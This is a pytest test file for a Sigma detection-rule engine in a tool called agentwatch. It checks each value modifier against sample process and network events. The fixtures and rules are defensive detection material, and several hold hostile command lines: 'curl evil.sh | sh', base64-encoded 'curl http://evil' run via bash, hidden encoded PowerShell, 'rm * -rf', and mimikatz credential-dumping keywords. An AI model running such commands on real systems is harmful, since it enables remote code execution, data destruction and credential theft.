"""Every value modifier of the Sigma specification, each with a matching and a non-matching event."""

from __future__ import annotations

import base64

import pytest

from agentwatch.detect.fieldmap import FieldMap
from agentwatch.detect.sigma import SigmaLoadError
from tests.detect.sigma.helpers import engine, event, one_rule, proc, rules


def matches(detection: str, ev, *, logsource: str | None = None, fieldmap: FieldMap | None = None) -> bool:
    text = one_rule(detection, logsource) if logsource else one_rule(detection)
    return bool(engine(text, fieldmap=fieldmap).match(ev))


def net(ip: str, port=443, domain: str | None = None):
    dest = {"ip": ip, "port": port}
    if domain:
        dest["domain"] = domain
    return event("network.connect", host={"os": "linux"}, data={"dest": dest, "protocol": "tcp"})


NETLS = "{product: agentwatch, category: network}"


def test_plain_value_is_case_insensitive_exact_match():
    det = "sel:\n  CommandLine: 'WHOAMI /ALL'\ncondition: sel\n"
    assert matches(det, proc("whoami /all"))
    assert not matches(det, proc("whoami /all /fo csv"))


@pytest.mark.parametrize(
    ("modifier", "hit", "miss"),
    [
        ("contains", "sh -c 'curl evil.sh | sh'", "sh -c 'wget x'"),
        ("startswith", "curl evil.sh -o x", "sh -c curl evil.sh"),
        ("endswith", "run curl evil.sh", "curl evil.sh -o x"),
    ],
)
def test_contains_startswith_endswith(modifier, hit, miss):
    det = f"sel:\n  CommandLine|{modifier}: 'CURL EVIL.SH'\ncondition: sel\n"
    assert matches(det, proc(hit))
    assert not matches(det, proc(miss))


def test_all_links_list_values_with_and():
    det = "sel:\n  CommandLine|contains|all: ['-nop', '-enc']\ncondition: sel\n"
    assert matches(det, proc("powershell -nop -w hidden -enc AAAA"))
    assert not matches(det, proc("powershell -nop -w hidden"))
    # without |all the list is OR-linked
    det_or = "sel:\n  CommandLine|contains: ['-nop', '-enc']\ncondition: sel\n"
    assert matches(det_or, proc("powershell -nop"))


def test_wildcards_and_escaped_wildcard():
    det = "sel:\n  Image: '/usr/*/cu?l'\ncondition: sel\n"
    assert matches(det, proc(exe="/usr/local/bin/curl"))
    assert not matches(det, proc(exe="/usr/local/bin/curls"))
    literal = "sel:\n  CommandLine|contains: 'rm \\*'\ncondition: sel\n"
    assert matches(literal, proc("rm * -rf"))
    assert not matches(literal, proc("rm file -rf"))


def test_cased_modifier_is_case_sensitive():
    det = "sel:\n  CommandLine|cased|contains: 'SecretToken'\ncondition: sel\n"
    assert matches(det, proc("echo SecretToken"))
    assert not matches(det, proc("echo secrettoken"))


@pytest.mark.parametrize(
    ("flags", "pattern", "hit", "miss"),
    [
        ("", "evil\\d+\\.sh", "get evil42.sh", "get EVIL42.SH"),
        ("|i", "evil\\d+\\.sh", "get EVIL42.SH", "get evil.sh"),
        ("|m", "^second$", "first\nsecond\nthird", "first second third"),
        ("|s", "begin.end", "begin\nend", "begin\n\nend"),
    ],
)
def test_re_and_its_flags(flags, pattern, hit, miss):
    det = f"sel:\n  CommandLine|re{flags}: '{pattern}'\ncondition: sel\n"
    assert matches(det, proc(hit))
    assert not matches(det, proc(miss))


def test_re_without_flag_is_case_sensitive_and_dotall_off_by_default():
    assert not matches("sel:\n  CommandLine|re: '^second$'\ncondition: sel\n", proc("first\nsecond\nthird"))
    assert not matches("sel:\n  CommandLine|re: 'begin.end'\ncondition: sel\n", proc("begin\nend"))


@pytest.mark.parametrize(
    ("cidr", "hit", "miss"),
    [("10.0.0.0/8", "10.20.30.40", "11.0.0.1"), ("fd00::/8", "fd12:3456::1", "fe80::1")],
)
def test_cidr(cidr, hit, miss):
    det = f"sel:\n  DestinationIp|cidr: '{cidr}'\ncondition: sel\n"
    assert matches(det, net(hit), logsource=NETLS)
    assert not matches(det, net(miss), logsource=NETLS)
    assert not matches(det, net("not-an-ip"), logsource=NETLS)


@pytest.mark.parametrize(
    ("modifier", "bound", "hit", "miss"),
    [("gt", 1024, 1025, 1024), ("gte", 1024, 1024, 1023), ("lt", 1024, 1023, 1024), ("lte", 1024, 1024, 1025)],
)
def test_numeric_comparisons(modifier, bound, hit, miss):
    det = f"sel:\n  DestinationPort|{modifier}: {bound}\ncondition: sel\n"
    assert matches(det, net("1.2.3.4", hit), logsource=NETLS)
    assert not matches(det, net("1.2.3.4", miss), logsource=NETLS)
    assert matches(det, net("1.2.3.4", str(hit)), logsource=NETLS)  # numbers sent as text still compare


def test_exists_true_and_false():
    present = "sel:\n  DestinationHostname|exists: true\ncondition: sel\n"
    absent = "sel:\n  DestinationHostname|exists: false\ncondition: sel\n"
    with_domain, without = net("1.2.3.4", domain="x.example"), net("1.2.3.4")
    assert matches(present, with_domain, logsource=NETLS)
    assert not matches(present, without, logsource=NETLS)
    assert matches(absent, without, logsource=NETLS)
    assert not matches(absent, with_domain, logsource=NETLS)


def test_null_value_matches_a_missing_or_empty_field():
    det = "sel:\n  CurrentDirectory: null\ncondition: sel\n"
    assert matches(det, proc("ls"))
    with_cwd = proc("ls")
    with_cwd.body["process"]["cwd"] = "/tmp"
    assert not matches(det, with_cwd)


def test_fieldref_equal_and_contains():
    same = "sel:\n  ParentImage|fieldref: Image\ncondition: sel\n"
    assert matches(same, proc("x", exe="/bin/sh", parent="/bin/sh"))
    assert not matches(same, proc("x", exe="/bin/bash", parent="/bin/sh"))
    inside = "sel:\n  CommandLine|fieldref|contains: Image\ncondition: sel\n"
    assert matches(inside, proc("run /usr/bin/curl -s", exe="/usr/bin/curl"))
    assert not matches(inside, proc("run wget -s", exe="/usr/bin/curl"))


def test_neq_modifier():
    det = "sel:\n  User|neq: root\ncondition: sel\n"
    assert matches(det, proc("id", user="alice"))
    assert not matches(det, proc("id", user="root"))


def test_base64_and_base64offset():
    plain = "sel:\n  CommandLine|base64|contains: 'whoami'\ncondition: sel\n"
    encoded = base64.b64encode(b"whoami").decode()
    assert matches(plain, proc(f"echo {encoded} | base64 -d | sh"))
    assert not matches(plain, proc("echo d2hvYW1 | sh"))
    offset = "sel:\n  CommandLine|base64offset|contains: 'http://evil'\ncondition: sel\n"
    for prefix in (b"", b"a", b"ab", b"abc"):  # every alignment of the value in the encoded text
        blob = base64.b64encode(prefix + b"curl http://evil/x").decode()
        assert matches(offset, proc(f"bash -c {blob}")), prefix
    assert not matches(offset, proc("bash -c " + base64.b64encode(b"curl http://good/x").decode()))


@pytest.mark.parametrize(
    ("modifier", "encoding", "bom"),
    [
        ("utf16le", "utf-16-le", b""),
        ("wide", "utf-16-le", b""),
        ("utf16be", "utf-16-be", b""),
        ("utf16", "utf-16-le", b"\xff\xfe"),
    ],
)
def test_utf16_family_with_base64(modifier, encoding, bom):
    if bom:  # with a byte order mark the value starts the encoded text, so base64 (not offset) applies
        det = f"sel:\n  CommandLine|{modifier}|base64|contains: 'ping'\ncondition: sel\n"
        blob = base64.b64encode(bom + "ping".encode(encoding)).decode()
    else:
        det = f"sel:\n  CommandLine|{modifier}|base64offset|contains: 'ping'\ncondition: sel\n"
        blob = base64.b64encode("cmd /c ping 127.0.0.1".encode(encoding)).decode()
    assert matches(det, proc(f"powershell -enc {blob}"))
    other = base64.b64encode("cmd /c pong".encode(encoding)).decode()
    assert not matches(det, proc(f"powershell -enc {other}"))


def test_wide_without_base64_matches_raw_utf16_text():
    det = "sel:\n  CommandLine|wide|contains: 'ping'\ncondition: sel\n"
    assert matches(det, proc("x" + "ping".encode("utf-16-le").decode("latin-1")))
    assert not matches(det, proc("ping"))


def test_windash_expands_dash_variants():
    det = "sel:\n  CommandLine|windash|contains: ' -exec '\ncondition: sel\n"
    for dash in ("-", "/", "\u2013", "\u2014", "\u2015"):
        assert matches(det, proc(f"tool {dash}exec bypass")), dash
    assert not matches(det, proc("tool +exec bypass"))


def test_expand_uses_placeholder_values():
    fm = FieldMap(placeholders={"admins": ["root", "Administrator"]})
    det = "sel:\n  User|expand: '%admins%'\ncondition: sel\n"
    assert matches(det, proc("id", user="administrator"), fieldmap=fm)
    assert not matches(det, proc("id", user="bob"), fieldmap=fm)


def test_expand_without_placeholder_value_is_reported_at_load():
    with pytest.raises(SigmaLoadError) as info:
        rules(one_rule("sel:\n  User|expand: '%admins%'\ncondition: sel\n"))
    assert "%admins%" in info.value.message
    assert info.value.line == 5


def test_numbers_and_booleans():
    det = "sel:\n  ProcessId: 10\ncondition: sel\n"
    assert matches(det, proc("x"))
    ev = proc("x")
    ev.body["process"]["pid"] = 11
    assert not matches(det, ev)
    flag = "sel:\n  data.is_shell: true\ncondition: sel\n"
    assert matches(flag, proc("x", is_shell=True))
    assert not matches(flag, proc("x", is_shell=False))


def test_timestamp_part_modifier():
    det = "sel:\n  ts|hour: 14\ncondition: sel\n"
    ls = "{product: agentwatch, category: process_creation}"
    at_14, at_15 = proc("x"), proc("x")
    at_14.body["ts"] = "2025-12-22T14:30:15Z"
    at_15.body["ts"] = "2025-12-22T15:30:15Z"
    assert matches(det, at_14, logsource=ls)
    assert not matches(det, at_15, logsource=ls)


def test_keyword_search_looks_in_named_text_fields():
    det = "keywords:\n  - 'mimikatz'\n  - 'sekurlsa::'\ncondition: keywords\n"
    assert matches(det, proc("C:/tools/MIMIKATZ.exe privilege::debug"))
    assert not matches(det, proc("notepad.exe"))
    log = event("log.line", data={"message": "user ran sekurlsa::logonpasswords"})
    assert matches(det, log, logsource="{product: agentwatch}")
